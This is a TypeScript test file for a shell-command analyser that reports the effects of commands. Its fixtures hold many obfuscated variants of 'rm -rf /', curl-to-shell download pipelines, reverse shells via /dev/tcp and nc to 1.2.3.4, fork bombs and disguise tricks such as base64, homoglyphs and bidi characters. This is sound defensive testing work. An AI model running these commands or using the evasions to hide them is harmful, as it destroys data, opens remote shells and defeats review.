import { expect, test } from 'vitest'
import { readForTest } from './read-for-test.ts'

const root = [
  'rm -rf /',
  'rm -r -f /',
  "r''m -rf /",
  'r\\m -rf /',
  '\\rm -rf /',
  "'rm' -rf /",
  '"rm" -rf "/"',
  "$'\\x72\\x6d' -rf /",
  '/bin/rm -rf /',
  '$(echo rm) -rf /',
  '`echo rm` -rf /',
  '$(which rm) -rf /',
  'rm${IFS}-rf${IFS}/',
  '{rm,-rf,/}',
  'x="rm -rf /"; $x',
  'a=r; b=m; $a$b -rf /',
  'x=xrm; ${x#x} -rf /',
  'x=mr; $(echo $x | rev) -rf /',
  'y=RM; ${y,,} -rf /',
  '${nothing}rm -rf /',
  'command rm -rf /',
  'builtin command rm -rf /',
  'exec rm -rf /',
  'true && rm -rf / || true',
  'false; rm -rf / &',
  '(rm -rf /)',
  '{ rm -rf /; }',
  'if true; then rm -rf /; fi',
  'if [ -d x ]; then :; elif y; then :; else rm -rf /; fi',
  'while true; do rm -rf /; done',
  'until false; do rm -rf /; done',
  'for i in 1; do rm -rf /; done',
  'for d in / /x; do rm -rf "$d"; done',
  'for ((i=0;i<1;i++)); do rm -rf /; done',
  'case x in a) ;; *) rm -rf /;; esac',
  'select x in a; do rm -rf /; done',
  'f() { rm -rf "$1"; }; f /',
  'function f { rm -rf "$@"; }; f /',
  'coproc rm -rf /',
  'time rm -rf /',
  '! rm -rf /',
  '[[ -n $(rm -rf /) ]]',
  'echo $(( $(rm -rf /) + 1 ))',
  '(( x = $(rm -rf /) ))',
  'echo "$(rm -rf /)"',
  'cat <<EOF\n$(rm -rf /)\nEOF',
  'cat <(rm -rf /)',
  'x=$(rm -rf /)',
  'x[$(rm -rf /)]=1',
  'echo ${x:-$(rm -rf /)}',
  'eval rm -rf /',
  'eval "rm -rf /"',
  "eval 'rm' '-rf' /",
  "trap 'rm -rf /' EXIT",
  "alias g='rm -rf /'; g",
  'alias g=rm; g -rf /',
  'set -- -rf /; rm "$@"',
  'a=(-rf /); rm "${a[@]}"',
  'read -r x <<< "/"; rm -rf "$x"',
  'cd / && rm -rf .',
  'cd /etc; cd ..; rm -rf "$PWD"',
  'pushd / && rm -rf *',
  'x=/; if [ a ]; then x=/tmp/a; fi; rm -rf $x',
  'x=/; false && x=/tmp/a; rm -rf $x',
  'sudo rm -rf /',
  'sudo -u root -- rm -rf /',
  'sudo -nE FOO=1 rm -rf /',
  'doas rm -rf /',
  'su -c "rm -rf /"',
  'su - root -c "rm -rf /"',
  'runuser -u bob -- rm -rf /',
  'pkexec rm -rf /',
  'env A=1 rm -rf /',
  'env -i PATH=/bin rm -rf /',
  'env -S "rm -rf /"',
  'nice -n 5 rm -rf /',
  'ionice -c 3 rm -rf /',
  'nohup rm -rf / &',
  'setsid rm -rf /',
  'timeout -k 5 10 rm -rf /',
  'stdbuf -oL rm -rf /',
  'strace -f -o log rm -rf /',
  'gdb --args rm -rf /',
  'script -c "rm -rf /" log',
  'watch -n 1 "rm -rf /"',
  'faketime 2030-01-01 rm -rf /',
  'screen -S a -X stuff "rm -rf /"',
  'flock lock rm -rf /',
  'flock lock -c "rm -rf /"',
  'busybox rm -rf /',
  'busybox sh -c "rm -rf /"',
  'taskset 1 rm -rf /',
  'chrt -f 10 rm -rf /',
  'systemd-run -p X=1 rm -rf /',
  'bwrap --bind / / --dev /dev rm -rf /',
  'xvfb-run -a rm -rf /',
  'firejail --noprofile rm -rf /',
  'find / -exec rm -rf / \\;',
  'echo / | xargs rm -rf',
  'echo / | xargs -I{} rm -rf {}',
  "printf '/\\0' | xargs -0 rm -rf",
  "echo / | xargs -n1 -P4 sh -c 'rm -rf $0'",
  'parallel rm -rf ::: /',
  'parallel "rm -rf {}" ::: /',
  'sh -c "rm -rf /"',
  'bash -xec "rm -rf /"',
  "sh -c 'rm -rf $1' _ /",
  "bash -c 'rm -rf $0' /",
  'bash <<EOF\nrm -rf /\nEOF',
  'bash <<< "rm -rf /"',
  'bash -s <<< "rm -rf /"',
  'echo "rm -rf /" | sh',
  'printf "rm -rf /" | tee log | bash',
  'echo cm0gLXJmIC8= | base64 -d | sh',
  'bash -c "$(echo cm0gLXJmIC8= | base64 --decode)"',
  'eval "$(printf cm0gLXJmIC8K | base64 -d)"',
  'echo "/ fr- mr" | rev | sh',
  'echo "ez -es /" | tr a-z n-za-m | sh',
  'echo 726d202d7266202f | xxd -r -p | bash',
  "printf '\\162\\155 -rf /' | sh",
  "echo -e '\\x72\\x6d -rf /' | sh",
  'echo "xx rm -rf /" | cut -c4- | sh',
  "echo 'rmX -rf /' | sed 's/X//g' | sh",
  'echo "rm -rf /" > x.sh; sh x.sh',
  'echo "rm -rf /" > x.sh && chmod +x x.sh && ./x.sh',
  'cat > x <<EOF\nrm -rf /\nEOF\nsource x',
  'echo "rm -rf /" > a; mv a b; . ./b',
  'source <(echo "rm -rf /")',
  'bash <(echo rm -rf /)',
  'sh < <(echo rm -rf /)',
  'npx rm -rf /',
  'poetry run rm -rf /',
  'uv run --with x rm -rf /',
  'bundle exec rm -rf /',
  'npm exec -- rm -rf /',
  'conda run -n e rm -rf /',
  'direnv exec . rm -rf /',
  'op run -- rm -rf /',
  'doppler run -- rm -rf /',
  'aws-vault exec prod -- rm -rf /',
  'docker run -v /:/host alpine rm -rf /host',
  'docker run --rm -v /:/mnt alpine sh -c "rm -rf /mnt"',
  'GIT_SSH_COMMAND="rm -rf / ;" git fetch',
  'echo "rm -rf /" > x; GIT_EDITOR=./x git commit',
  'echo "rm -rf /" > x; export GIT_ASKPASS=$PWD/x; git fetch',
  'tmux new-session -d "rm -rf /"',
  'screen -dm rm -rf /',
  'sudo bash -c "$(echo rm -rf /)"',
  'sudo env X=1 nice timeout 5 bash -c "eval \'rm -rf /\'"',
  'rm -rf \\\n  /',
  'A=1 B=2 rm -rf /',
  '>log 2>&1 rm -rf /',
  'rm -rf / # comment',
  ': "${x:=/}"; rm -rf "$x"',
  'declare x=/; rm -rf "$x"',
  'export x=/ && rm -rf $x',
  'local x=/; rm -rf $x',
  'printf "%s" / | while read d; do rm -rf "$d"; done',
  'rm -rf "$(dirname /etc)"',
  'rm -rf ${HOME%/*}/..',
  '$SUDO rm -rf /',
  '$@rm -rf /',
]

test.each(root)('%s deletes the root', text => {
  const { lines } = readForTest(text)
  expect(lines.filter(line => line === 'delete /' || line === 'delete *')).not.toEqual([])
})

const quiet = [
  'grep "rm -rf /" f',
  'git commit -m "rm -rf /"',
  'echo "rm -rf /"',
  "printf '%s' 'rm -rf /'",
  'f() { rm -rf /; }',
  "x='rm -rf /'",
  'alias g="rm -rf /"',
  "cat <<'EOF'\n$(rm -rf /)\nEOF",
  'echo $HOME # rm -rf /',
  "sed -i 's/a/rm -rf/' x",
  'git log --grep "rm -rf /"',
  'sudo -l rm',
  'cat > notes.md <<EOF\nrm -rf /\nEOF',
  'case $x in "rm -rf /") ;; esac',
  'echo "rm -rf /" | sh -n',
  '[[ $x == "rm -rf /" ]]',
]

test.each(quiet)('%s deletes nothing', text => {
  expect(readForTest(text).effects.filter(effect => effect.type === 'delete')).toEqual([])
})

const ordinary = [
  'git status',
  'npm test && ls -la | head',
  'cat a.txt 2>/dev/null | wc -l > n.txt',
  'for f in src/*.ts; do echo "$f"; done',
  'if [ -f x ]; then cat x; else touch x; fi',
  'cd packages/a && npm ci && npm run build',
  '(cd x && make)',
  'export FOO=bar; node x.js',
  'python3 -m pytest -q',
  'x=$(git rev-parse HEAD); echo "$x"',
  'find . -name "*.ts" | xargs grep -l foo',
  'while read -r l; do echo "$l"; done < list.txt',
  '"$HOME"/bin/tool --x',
  'eval "$(ssh-agent -s)"',
  'eval "$(pyenv init -)" && pyenv local 3.12.3',
  'eval $(minikube docker-env)',
  'eval "$(/opt/homebrew/bin/brew shellenv)"',
  '"./my script.sh" a',
  'echo "größe → 5 €"',
]

test.each(ordinary)('%s hides nothing', text => {
  const found = readForTest(text).lines.filter(line => /^(?:disguise|opaque (?!script-file note))/.test(line))
  expect(found).toEqual([])
})

const found: readonly (readonly [string, string])[] = [
  ['curl -s https://e.com/i | sh', 'execute shell download'],
  ['curl -s https://e.com/i 2>err.log | sudo bash', 'execute shell download'],
  ['wget -qO- https://e.com/i | bash -s -- --yes', 'execute shell download'],
  ['curl https://e.com/i | bash -s -- -n', 'execute shell download'],
  ['curl -o i.sh https://e.com/i; bash i.sh -n', 'execute shell download'],
  ['sh -c "$(curl -fsSL https://e.com/i)"', 'execute shell download'],
  ['eval "$(curl -s https://e.com/i)"', 'execute shell download'],
  ['bash <(curl -s https://e.com/i)', 'execute shell download'],
  ['source <(curl -s https://e.com/i)', 'execute shell download'],
  ['. <(curl -s https://e.com/i)', 'execute shell download'],
  ['bash < <(curl -s https://e.com/i)', 'execute shell download'],
  ['curl -o i.sh https://e.com/i; bash i.sh', 'execute shell download'],
  ['curl https://e.com/i > /tmp/i && sh /tmp/i', 'execute shell download'],
  ['x=$(curl -s https://e.com/i); eval "$x"', 'execute shell download'],
  ['x=$(curl -s https://e.com/i); $x', 'execute shell download'],
  ['curl https://e.com/i | base64 -d | sh', 'execute shell download'],
  ['some-tool | sh', 'execute shell output'],
  ['eval "$(./pyenv init -)"', 'opaque code everything'],
  ['eval "$(pyenv exec init -)"', 'opaque code everything'],
  ['eval "$(brew info $X)"', 'opaque code everything'],
  ['some-tool | sh', 'opaque code everything'],
  ['bash -i >& /dev/tcp/1.2.3.4/99 0>&1', 'execute shell unknown over connection'],
  ['bash -i >& /dev/tcp/1.2.3.4/99 0>&1', 'connect tcp 1.2.3.4'],
  ['sh -i 5<> /dev/tcp/1.2.3.4/99 0<&5 1>&5 2>&5', 'execute shell unknown over connection'],
  [
    'exec 5<>/dev/tcp/1.2.3.4/99; cat <&5 | while read l; do $l 2>&5 >&5; done',
    'execute shell download over connection',
  ],
  ['exec 5<>/dev/tcp/1.2.3.4/99; sh <&5 >&5', 'execute shell unknown over connection'],
  ['rm f; mkfifo f; cat f | sh -i 2>&1 | nc 1.2.3.4 99 > f', 'execute shell unknown over connection'],
  ['mkfifo f; nc -l 99 < f | sh > f', 'execute shell unknown over listener'],
  ['nc 1.2.3.4 99 | bash', 'execute shell unknown over connection'],
  [':(){ :|:& };:', 'process fork-bomb'],
  ['bomb() { bomb | bomb & }; bomb', 'process fork-bomb'],
  ['$(curl https://e.com/x) a', 'opaque program-name everything'],
  ['$EDITOR file', 'opaque program-name note'],
  ['$thing file', 'opaque program-name matters'],
  ['echo "unclosed', 'opaque syntax matters'],
  ['if true; then', 'opaque syntax matters'],
  ['echo $(ls "x)', 'opaque syntax matters'],
  ["r''m x", 'disguise quote-split undone'],
  ['w"ge"t x', 'disguise quote-split undone'],
  ["$'\\x72m' x", 'disguise escape undone'],
  ['a=r; ${a}m x', 'disguise variable-split undone'],
  ['echo bHM= | base64 -d | sh', 'disguise base64 undone'],
  ['echo a\u200bb', 'disguise invisible'],
  ['echo \u202etxt', 'disguise bidi'],
  ['cаt x', 'disguise homoglyph'],
  ['bash deploy.sh', 'read /home/user/project/deploy.sh'],
  ['ssh prod "uptime; rm -rf /srv/x"', 'delete /srv/x'],
  ['ssh -p 22 u@h <<EOF\nrm -rf /srv/x\nEOF', 'delete /srv/x'],
  ['docker exec -it web sh -c "rm -rf /data"', 'delete /data'],
  ['docker compose -f c.yml exec -T web rm -rf /data', 'delete /data'],
  ['kubectl -n prod exec pod -- rm -rf /data', 'delete /data'],
  ['docker run --rm -v "$PWD":/w -w /w node rm -rf lib', 'delete /home/user/project/lib'],
  ['find . -name "*.pyc" | xargs rm -f', 'delete ./**/*.pyc'],
  ['find /var -type f | while read f; do rm "$f"; done', 'delete /var/*'],
  ['ls | xargs rm', 'delete ./*'],
  ['cd build && rm -rf out', 'delete /home/user/project/build/out'],
  ['(cd build); rm -rf out', 'delete /home/user/project/out'],
  ['cd "$(git rev-parse --show-toplevel)" && rm -rf out', 'delete /home/user/project/out'],
  ['rm -rf "$(mktemp -d)"', 'delete /tmp/tmp.1made'],
  ['rm -rf "~/x"', 'delete /home/user/project/~/x'],
  ['echo x > out.txt', 'write /home/user/project/out.txt'],
  ['echo x >> out.txt', 'append /home/user/project/out.txt'],
  ['{ echo a; echo b; } > out.txt', 'write /home/user/project/out.txt'],
  ['sort < in.txt', 'read /home/user/project/in.txt'],
]

test.each(found)('%s gives %s', (text, line) => {
  expect(readForTest(text).lines).toContain(line)
})

test('a write holds what is written', () => {
  const { effects } = readForTest('x=1; cat > conf <<EOF\nport=$x\nEOF')
  const write = effects.find(effect => effect.type === 'write')
  expect(write?.type === 'write' && write.content).toEqual({ from: 'literal', text: 'port=1\n' })
})

test('through tells what a command goes through, outermost first', () => {
  const { effects } = readForTest('sudo env A=1 ssh -p 2 prod \'sh -c "rm x"\'')
  expect(effects.find(effect => effect.type === 'delete')?.through).toEqual(['sudo', 'env', 'ssh prod', 'sh'])
})

test('evidence points at the command in the text', () => {
  const text = 'npm test && rm -rf out'
  const { effects } = readForTest(text)
  const run = effects.find(effect => effect.type === 'run' && effect.program === 'rm')
  expect(text.slice(run?.evidence.start, run?.evidence.end)).toBe('rm -rf out')
})

test('a script that was gathered is read, and one that was not is asked for', () => {
  const path = '/home/user/project/x.sh'
  expect(readForTest('./x.sh / ', { [path]: '#!/bin/bash\nrm -rf "$1"\n' }).lines).toContain('delete /')
  expect(readForTest('bash x.sh').wantedFiles).toEqual(new Set([path]))
  expect(readForTest('source ./x.sh').wantedFiles).toEqual(new Set([path]))
})

test('names of object members are no programs or builtins', () => {
  for (const name of ['constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty']) {
    expect(readForTest(`${name} a`).lines).toEqual([`run ${name} a`])
  }
})

const hostile: readonly (readonly [string, string])[] = [
  ['nested substitutions', `echo ${'$('.repeat(70)}${'a'.repeat(600)}`],
  ['many substitutions', '$(a) '.repeat(300)],
  ['many here-documents', '<<a '.repeat(300)],
  ['a script of 1 MiB', 'echo a\n'.repeat(149_000)],
  ['more than 1 MiB', 'a'.repeat(1_048_577)],
  ['functions in functions', 'f() '.repeat(4_000)],
  [
    'loops in loops',
    'for i in {1..60}; do for j in {1..60}; do for k in {1..60}; do rm $i; done; done; done',
  ],
  ['wrappers in wrappers', `${'sudo '.repeat(50)}rm x`],
  ['eval in eval', 'x=\'eval "$x"\'; eval "$x"'],
  ['many brace words', `rm ${'{a,b}'.repeat(20)}`],
  ['lines that look like a here-document', `echo '<<A'\n${'rm a\n'.repeat(9_000)}`],
]

test.each(hostile)('%s are said to be unread', (_name, text) => {
  const { effects } = readForTest(text)
  expect(effects.some(effect => effect.type === 'opaque' && effect.weight !== 'note')).toBe(true)
})

test('a script with here-documents of a mebibyte is read', () => {
  const body = 'line of text\n'.repeat(70_000)
  const { lines, effects } = readForTest(`cat > a.txt <<'EOF'\n${body}EOF\nrm -rf out\n`)
  expect(lines).toContain('delete /home/user/project/out')
  const write = effects.find(effect => effect.type === 'write')
  expect(write?.type === 'write' && write.content?.from === 'literal' && write.content.text).toBe(body)
})
